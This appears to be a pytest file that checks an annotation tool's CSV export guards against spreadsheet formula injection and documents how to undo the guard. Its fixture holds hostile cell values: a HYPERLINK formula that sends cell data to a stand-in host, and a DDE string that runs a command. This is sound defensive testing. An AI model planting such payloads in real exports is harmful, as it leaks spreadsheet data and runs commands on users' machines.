"""CSV for spreadsheets: no cell a spreadsheet would run as a formula, and the card says how to undo the guard."""

from __future__ import annotations

import csv
import subprocess
import sys
from pathlib import Path

from annotator.model import ArticleIn
from annotator.store import Store

TEXT = "=1+1 opens it. \tIndented -5 percent, said @ceo. 'quoted' and plain words here."
HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "annotator": "@SUM(1+1)*cmd|' /C calc'!A0",
    "label": "+claim",
    "note": "-2+3",
}


def at(piece: str) -> tuple[int, int]:
    start = TEXT.index(piece)
    return start, start + len(piece)


def read_rows(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def test_cells_spreadsheets_would_run_get_a_quote_and_the_card_says_how_to_undo_it(tmp_path):
    db = tmp_path / "a.db"
    with Store(db) as store:
        aid, _ = store.add_article(ArticleIn(text=TEXT, title=HOSTILE["title"]))
        store.labels.add(HOSTILE["label"])
        for piece in ("=1+1", "\tIndented", "-5 percent", "@ceo", "'quoted'", "plain words"):
            store.add_span(aid, HOSTILE["annotator"], HOSTILE["label"], *at(piece), note=HOSTILE["note"])
        store.add_span(aid, "bob", "claim", *at("plain words"), note="\rcarriage return")
    out = tmp_path / "out"
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "annotator",
            "--db",
            str(db),
            "export",
            "--format",
            "csv",
            "--out",
            str(out),
            "--all-annotators",
            "-q",
        ],
        capture_output=True,
        text=True,
    )
    assert proc.returncode == 0, proc.stderr
    rows = read_rows(out / "spans.csv")
    assert len(rows) == 7
    for row in rows:
        for column in ("title", "annotator", "label", "text", "note"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row[column])
    undone = [
        {
            k: v[1:] if k in ("title", "annotator", "label", "text", "note") and v.startswith("'") else v
            for k, v in row.items()
        }
        for row in rows
    ]
    for row in undone:
        assert row["text"] == TEXT[int(row["start"]) : int(row["end"])]
        assert row["title"] == HOSTILE["title"]
    assert {r["annotator"] for r in undone} == {HOSTILE["annotator"], "bob"}
    assert sorted(r["note"] for r in undone) == ["\rcarriage return"] + [HOSTILE["note"]] * 6
    assert sorted(r["text"] for r in undone) == sorted(
        ["=1+1", "\tIndented", "-5 percent", "@ceo", "'quoted'", "plain words", "plain words"]
    )
    card = (out / "README.md").read_text("utf-8")
    counts = {
        line.split(" × ")[1].split(" cell")[0]: int(line[2:].split(" × ")[0])
        for line in card.splitlines()
        if "cell began with" in line
    }
    # title: 7 rows; annotator and label: alice's 6; text: 5 of 7 ("plain words" twice is not); note: all 7
    assert counts == {"title": 7, "annotator": 6, "label": 6, "text": 5, "note": 7}
    assert "drop a leading quote from those cells to get the stored value back" in card


def test_plain_cells_are_left_as_they_are(tmp_path):
    db = tmp_path / "a.db"
    with Store(db) as store:
        aid, _ = store.add_article(ArticleIn(text="Putin denied the report.", title="A plain title"))
        store.add_span(aid, "alice", "denial", 6, 12, note="a note")
    out = tmp_path / "out"
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "annotator",
            "--db",
            str(db),
            "export",
            "--format",
            "csv",
            "--out",
            str(out),
            "--all-annotators",
            "-q",
        ],
        capture_output=True,
        text=True,
    )
    assert proc.returncode == 0, proc.stderr
    [row] = read_rows(out / "spans.csv")
    assert (row["title"], row["annotator"], row["label"], row["text"], row["note"]) == (
        "A plain title",
        "alice",
        "denial",
        "denied",
        "a note",
    )
    assert "no cell needed one here" in (out / "README.md").read_text("utf-8")
